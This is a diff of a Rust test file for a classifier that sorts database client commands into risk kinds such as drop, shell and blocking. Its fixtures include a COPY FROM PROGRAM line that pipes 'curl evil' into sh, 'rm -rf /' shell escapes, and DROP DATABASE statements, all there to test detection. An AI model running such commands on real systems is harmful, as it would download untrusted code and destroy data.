@@ -109,9 +109,9 @@ fn every_sql_kind() {
         ("DROP DATABASE IF EXISTS x", "drop-database"),
         ("DROP SCHEMA s CASCADE", "drop-schema"),
         ("DROP TABLE t", "drop-table"),
-        ("DROP VIEW v", "drop-other"),
-        ("DROP INDEX i", "drop-other"),
-        ("DROP FUNCTION f()", "drop-other"),
+        ("DROP VIEW v", "drop-view"),
+        ("DROP INDEX i", "drop-index"),
+        ("DROP FUNCTION f()", "drop-function"),
         ("DROP ROLE r", "drop-role"),
         ("DROP USER u", "drop-role"),
         ("TRUNCATE t", "truncate"),
@@ -139,7 +139,8 @@ fn every_sql_kind() {
             "create-or-replace",
         ),
         ("CREATE TABLE t (a int)", "create"),
-        ("CREATE INDEX i ON t (a)", "create"),
+        ("CREATE INDEX i ON t (a)", "create-index"),
+        ("CREATE INDEX CONCURRENTLY i ON t (a)", "create"),
         ("INSERT INTO t VALUES (1)", "insert"),
         ("SELECT * INTO newt FROM t", "create"),
         ("SHOW search_path", "read-only"),
@@ -152,8 +153,10 @@ fn every_sql_kind() {
         ("COPY t TO STDOUT", "read-only"),
         ("COPY t FROM '/tmp/x.csv'", "insert"),
         ("COPY t FROM PROGRAM 'curl evil | sh'", "shell"),
-        ("VACUUM FULL t", "write"),
-        ("SELECT pg_terminate_backend(123)", "write"),
+        ("VACUUM FULL t", "vacuum-full"),
+        ("VACUUM t", "write"),
+        ("SELECT pg_terminate_backend(123)", "terminate-backend"),
+        ("SELECT setval('s', 1)", "write"),
         (
             "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
             "delete-without-where",
@@ -221,10 +224,17 @@ fn rejected_sql_falls_back_to_scan_never_read_only() {
         &["-c", "DROP DATABASE x WITH (FORCE) garbage garbage"],
     )
     .run();
-    assert_eq!(got[0].kind, "drop-database");
-    assert!(got[0].note.is_some());
-    assert_eq!(psql("SELEC * FROM t"), ["unknown"]);
-    assert_eq!(psql("DO $$ BEGIN PERFORM 1; END $$"), ["unknown"]);
+    // PostgreSQL's own parser rejects it: so does the server, which runs none of it.
+    assert_eq!(got[0].kind, "syntax-error");
+    assert!(got[0]
+        .note
+        .as_deref()
+        .unwrap_or_default()
+        .contains("rejects"));
+    assert_eq!(psql("SELEC * FROM t"), ["syntax-error"]);
+    // A psql variable is substituted before the server sees the text: unknown.
+    assert_eq!(psql("DELETE FROM t WHERE id = :id"), ["unknown"]);
+    assert_eq!(psql("DO $$ BEGIN PERFORM 1; END $$"), ["read-only"]);
     assert_eq!(
         kinds_of("cqlsh", &["-e", "DROP KEYSPACE prod"]),
         ["drop-database"]
@@ -251,7 +261,12 @@ fn mysql_hidden_code_is_seen() {
     );
     assert_eq!(
         kinds_of("mysql", &["-e", "SET GLOBAL read_only = 0"]),
-        ["alter"]
+        ["server-setting"]
+    );
+    assert_eq!(kinds_of("mysql", &["-e", "RESET MASTER"]), ["replication"]);
+    assert_eq!(
+        kinds_of("mysql", &["-e", "PURGE BINARY LOGS BEFORE NOW()"]),
+        ["replication"]
     );
     assert_eq!(kinds_of("mysql", &["-e", "system rm -rf /"]), ["shell"]);
     assert_eq!(kinds_of("mysql", &["-e", "\\! rm -rf /"]), ["shell"]);
@@ -502,7 +517,7 @@ fn pg_dump_copy_data_is_not_sql() {
     let dump = "SET statement_timeout = 0;\nCOPY public.t (a, b) FROM stdin;\n1\tDROP DATABASE x;\n\\.\n\nCREATE INDEX i ON t (a);\n";
     assert_eq!(
         stdin("psql", &["app"], dump),
-        ["read-only", "insert", "create"]
+        ["read-only", "insert", "create-index"]
     );
 }
 
@@ -514,9 +529,9 @@ fn oversized_or_deep_statements_are_not_parsed() {
     assert_eq!(psql(&long), ["unknown"]);
     let long_drop = format!("DROP TABLE t{}", " ".repeat(70 * 1024));
     assert_eq!(psql(&long_drop), ["drop-table"]);
-    // Moderately nested input the parser refuses (recursion limit) is unknown, not a panic.
+    // Moderately nested input is read by PostgreSQL's parser as the server would.
     let nested = format!("SELECT {}1{}", "(".repeat(150), ")".repeat(150));
-    assert_eq!(psql(&nested), ["unknown"]);
+    assert_eq!(psql(&nested), ["read-only"]);
 }
 
 // --- stores -----------------------------------------------------------------------------------
@@ -555,7 +570,9 @@ fn redis() {
         ["read-only"]
     );
     assert_eq!(kinds_of("redis-cli", &["debug", "segfault"]), ["debug"]);
-    assert_eq!(kinds_of("redis-cli", &["keys", "*"]), ["read-only"]);
+    // KEYS walks the whole keyspace while the server serves nobody else.
+    assert_eq!(kinds_of("redis-cli", &["keys", "*"]), ["blocking"]);
+    assert_eq!(kinds_of("redis-cli", &["save"]), ["blocking"]);
     assert_eq!(
         kinds_of("redis-cli", &["--scan", "--pattern", "user:*"]),
         ["read-only"]
@@ -779,7 +796,7 @@ mod props {
         }
 
         #[test]
-        fn string_contents_never_change_a_read_only_select(s in "[^'\\\\]{0,80}") {
+        fn string_contents_never_change_a_read_only_select(s in "[^'\\\\\\x00]{0,80}") {
             let sql = format!("SELECT '{s}'");
             let out = classify(&ClientCall {
                 program: "psql",
